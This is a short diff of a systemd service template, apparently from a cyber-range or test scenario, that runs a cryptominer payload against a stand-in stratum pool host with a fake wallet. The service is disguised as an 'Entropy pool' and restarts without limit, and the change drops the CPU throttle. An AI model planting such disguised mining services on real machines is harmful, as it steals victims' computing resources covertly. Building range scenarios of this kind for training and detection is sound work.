@@ -22,7 +22,7 @@ Description=Entropy pool
 StartLimitIntervalSec=0
 
 [Service]
-ExecStart=${payload} -o stratum+tcp://pool.range.test:${String(world.poolPort)} -u ${fakeWallet} -p x --cpu 40
+ExecStart=${payload} -o stratum+tcp://pool.range.test:${String(world.poolPort)} -u ${fakeWallet} -p x
 NotifyAccess=main
 WatchdogSec=1
 WatchdogSignal=SIGKILL
